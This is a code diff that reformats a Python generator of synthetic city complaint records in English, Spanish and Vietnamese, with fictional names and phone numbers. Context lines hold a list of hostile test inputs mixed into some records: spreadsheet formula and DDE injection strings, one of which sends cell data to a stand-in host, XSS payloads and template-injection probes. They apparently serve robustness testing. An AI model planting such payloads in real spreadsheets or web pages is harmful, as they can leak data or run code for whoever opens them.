@@ -34,9 +34,23 @@ ENGLISH = {
     "Public Drinking or Disorderly Conduct": ("Fights outside when the bars close.", "People shouting and urinating in doorways at 2 am.", "No bus after midnight, everybody stays in the street.", "Nobody can get a taxi, then it gets ugly."),
     "Housing Condition": ("No heat since Friday.", "Mold in the bathroom, landlord does not answer."),
 }  # fmt: skip
-SPANISH = ("Por favor ayuden, llevamos semanas así.", "Nadie responde cuando llamamos.", "Hay niños en esta calle, es peligroso.", "Pasa todas las noches.")
+SPANISH = (
+    "Por favor ayuden, llevamos semanas así.",
+    "Nadie responde cuando llamamos.",
+    "Hay niños en esta calle, es peligroso.",
+    "Pasa todas las noches.",
+)
 VIETNAMESE = ("Xin hãy giúp, chuyện này xảy ra mỗi tuần.", "Chúng tôi đã gọi nhiều lần.")
-NAMES = ("Maria Lopez", "John Becker", "Anh Nguyen", "Tasha Williams", "Gus Lindqvist", "Fatima Hassan", "Peter Kowalski", "Rosa Delgado")
+NAMES = (
+    "Maria Lopez",
+    "John Becker",
+    "Anh Nguyen",
+    "Tasha Williams",
+    "Gus Lindqvist",
+    "Fatima Hassan",
+    "Peter Kowalski",
+    "Rosa Delgado",
+)
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+15550100 call me back", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
     "<script>alert('riverton')</script>", '<img src=x onerror="alert(1)">', "</td></tr><script src=//example.invalid/x.js></script>", "{{7*7}} ${7*7}",
@@ -60,7 +74,11 @@ def descriptions(rng: np.random.Generator, names: Texts, language: Texts, happen
     for i in np.flatnonzero(rng.random(n) < PERSONAL):
         phone = f"555-01{rng.integers(0, 100):02d}"
         who = NAMES[int(rng.integers(len(NAMES)))]
-        out[i] = f"{out[i]} My name is {who}, call me at {phone}." if rng.random() < 0.6 else f"{out[i]} Ask {who} at number {rng.integers(2, 90)}, he saw it."
+        out[i] = (
+            f"{out[i]} My name is {who}, call me at {phone}."
+            if rng.random() < 0.6
+            else f"{out[i]} Ask {who} at number {rng.integers(2, 90)}, he saw it."
+        )
     out[rng.random(n) < SILENT] = ""
     for i in np.flatnonzero((rng.random(n) < HOSTILE_SHARE) & (tag == "")):
         out[i] = HOSTILE[int(rng.integers(len(HOSTILE)))]
